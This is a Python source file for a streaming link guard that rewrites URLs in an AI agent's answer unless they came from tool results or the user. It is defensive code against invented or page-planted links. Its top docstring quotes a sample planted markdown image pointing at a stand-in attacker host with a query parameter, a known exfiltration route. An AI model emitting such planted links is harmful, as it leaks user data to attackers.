"""Links in the answer only to pages the tools returned or the user gave; other URLs become text.

A model can invent a URL, or copy one a page planted (`![x](https://attacker.example/?q=…)`
would even load by itself). The answer is checked as a renderer will read it, not as text
that happens to contain `://`: it is parsed as CommonMark with GFM's extensions and raw HTML
(`rendered_links`), each destination is resolved as a browser resolves it (WHATWG URL, by
`ada-url`: `https:/x` and `//x` are `https://x/`, tabs and newlines dropped, `&#58;` already
decoded by the parser) and compared by what would be sent (`link_key`). One that is exactly a
URL of the run's source ledger or the user's messages stays as written; any other is
rewritten so no renderer makes it a link — a link or image becomes its text with the URL in
backticks, an autolink, bare URL, reference definition or raw HTML becomes code — and is
flagged. A tracking parameter, userinfo or fragment added to a ledger URL makes it another URL.

As the answer streams, a paragraph goes out as it comes until the first character that could
start a link (`[` other than a citation marker like `[1]`, `<`, `//`, `www.`, `@`); from
there it is held until the paragraph ends (a blank line, or the end of the turn), then
parsed with everything shown before it and rewritten, so the shown text never holds the
start of a link that was not checked.
"""

from __future__ import annotations

import re
from collections.abc import Callable

import ada_url

from weblens.agent.rendered_links import Destination, MarkdownLinks
from weblens.net.urls import sent_form

__all__ = ["LinkGuard", "link_key"]

RESOLVE_BASE = "https://answer.invalid/"
"""What a relative destination resolves against: a name no ledger or user URL can have."""
_RISKY = re.compile(r"\[(?!\d{1,3}\][^(\[:])|<|//|www\.|@", re.IGNORECASE)
"""Where a link could start: a `[` that is not a finished citation marker, `<`, a URL's `//`,
`www.`, an e-mail address's `@`."""
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_URL_STARTS = ("https://", "http://", "www.")
_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
MAX_REWRITES = 4
"""Rounds of rewriting before a region that still holds a link is shown as a code block."""


def link_key(url: str) -> str | None:
    """What a browser would request for the destination `url` (WHATWG-resolved, then compared
    as `sent_form` compares), with its fragment; None when it cannot be a web request."""
    try:
        resolved = ada_url.URL(url, RESOLVE_BASE)
    except ValueError:
        return None
    sent = sent_form(resolved.href)
    return None if sent is None else sent + resolved.hash


def _resolved(url: str) -> str:
    try:
        return str(ada_url.URL(url, RESOLVE_BASE).href)
    except ValueError:
        return url


def _may_become_url(token: str) -> bool:
    """A trailing word that holds, or may grow into, a URL (`htt`, `https:/`, `ww`)."""
    lowered = token.lower()
    return any(lowered.endswith(start[:n]) for start in _URL_STARTS for n in range(1, len(start) + 1))


def _code(text: str) -> str:
    """`text` as an inline code span, whatever backticks it holds."""
    text = " ".join(text.split())
    run = max((len(m.group()) for m in re.finditer(r"`+", text)), default=0)
    fence = "`" * (run + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _escaped(words: str) -> str:
    """Plain text that stays plain in markdown (every ASCII punctuation mark escaped)."""
    return _PUNCTUATION.sub(r"\\\1", " ".join(words.split()))


def _fenced(text: str) -> str:
    run = max((len(m.group()) for m in re.finditer(r"`{3,}", text)), default=2)
    fence = "`" * (run + 1)
    return f"\n\n{fence}text\n{text.strip(chr(10))}\n{fence}\n\n"


class LinkGuard:
    """Rewrites the destinations `allowed` refuses, in streamed text; `flagged` lists them."""

    def __init__(self, allowed: Callable[[str], bool]) -> None:
        self.allowed = allowed
        self.flagged: list[str] = []
        self.linked: list[str] = []
        """The allowed destinations the text links to, resolved as a browser resolves them."""
        self._pending = ""
        self._shown = ""
        self._restart = 0
        """Where in the shown text parsing starts: the last top-level block a parse saw begin
        (the blocks before it are closed, so they cannot change how later text parses)."""
        self._next_restart = 0
        self._links = MarkdownLinks()

    def feed(self, text: str) -> str:
        """The part of the text so far that can be shown now, rewritten."""
        buffer = self._pending + text
        last_newline = self._pending.rfind("\n")
        cut = self._cut(buffer, last_newline if last_newline >= 0 else len(self._pending))
        self._pending = buffer[cut:]
        return self._show(buffer[:cut])

    def flush(self) -> str:
        """Everything held back, rewritten (the text has ended)."""
        rest, self._pending = self._pending, ""
        return self._show(rest)

    def _cut(self, buffer: str, new: int) -> int:
        """How much of `buffer` can go out: whole paragraphs, then the open one up to where a
        link could start (or a trailing word that could grow into a URL). What was held before
        holds no blank line, so one is looked for only from its last newline (`new`) on."""
        ends = [blank.end() - 1 for blank in _BLANK_LINE.finditer(buffer, new)]
        done = ends[-1] if ends else 0  # the last newline goes with the open block
        risky = _RISKY.search(buffer, done)
        if risky is not None:  # from the start of its word: `https:` and `//x` are one URL
            word = max(buffer.rfind(space, done, risky.start()) for space in (" ", "\n", "\t"))
            return max(done, word + 1)
        if buffer.endswith("!"):  # an image's `![` may follow
            return max(done, len(buffer) - 1)
        if buffer.endswith(("[", "]")) or re.search(r"\[\d{0,3}\]?$", buffer[done:]):
            return max(done, buffer.rfind("["))  # `[1` or `[1]`: a marker, or a link's start
        trailing = re.search(r"\S*$", buffer)
        if trailing is not None and trailing.group() and _may_become_url(trailing.group()):
            return max(done, trailing.start())
        return len(buffer)

    def _show(self, region: str) -> str:
        if not region:
            return ""
        if not _RISKY.search(region):  # plain prose and citation markers: nothing could link
            self._shown += region
            return region
        region = self._checked(region)
        self._shown += region
        self._restart = self._next_restart
        return region

    def _refused(self, region: str) -> list[Destination]:
        """The destinations written in `region` (after what was shown) that `allowed` refuses."""
        offset = len(self._shown) - self._restart
        refused = []
        found = self._links.destinations(self._shown[self._restart :] + region)
        self._next_restart = self._restart + self._links.last_block_start
        for destination in found:
            if destination.end <= offset and destination.start >= 0:
                continue  # shown before, and checked then
            if not self.allowed(destination.url):
                refused.append(destination)
            elif (resolved := _resolved(destination.url)) not in self.linked:
                self.linked.append(resolved)
        return refused

    def _checked(self, region: str) -> str:
        for _ in range(MAX_REWRITES):
            refused = self._refused(region)
            if not refused:
                return region  # and `_next_restart` is where this text's last block begins
            rewritten = self._rewrite(region, refused)
            if rewritten is None:
                break
            region = rewritten
        region = _fenced(region)
        if self._refused(region):  # inside raw HTML that no blank line ends: nothing of it is shown
            region = "\n\n" + _code("[text removed: it held a link that could not be neutralised]") + "\n\n"
        self._next_restart = self._restart  # parse from where this began next time
        return region

    def _flag(self, destination: Destination) -> None:
        url = destination.words if destination.kind == "linkify" else destination.url
        if url not in self.flagged:
            self.flagged.append(url)

    def _rewrite(self, region: str, refused: list[Destination]) -> str | None:
        """`region` with each refused destination made plain text; None when one cannot be located
        inside the region (it began in text already shown)."""
        offset = len(self._shown) - self._restart
        edits: list[tuple[int, int, str]] = []
        for destination in refused:
            self._flag(destination)
            if destination.start < offset:
                return None
            start, end = destination.start - offset, destination.end - offset
            if any(start < e and s < end for s, e, _ in edits):
                continue  # inside a link already rewritten (an image in a link's text)
            written = region[start:end]
            if destination.kind in ("link", "image"):
                words = destination.words.strip()
                url = destination.url
                replacement = f"{_escaped(words)} ({_code(url)})" if words and words != url else _code(url)
            elif destination.kind == "definition":
                indent = len(written) - len(written.lstrip(" \t>-*+0123456789.)"))
                replacement = written[:indent] + _code(written[indent:])
            elif destination.kind == "html" and "\n" in written:
                replacement = written.replace("<", "&lt;")
            elif destination.kind == "autolink":
                replacement = _code(destination.url)
            else:
                replacement = _code(written)
            edits.append((start, end, replacement))
        for start, end, replacement in sorted(edits, reverse=True):
            region = region[:start] + replacement + region[end:]
        return region
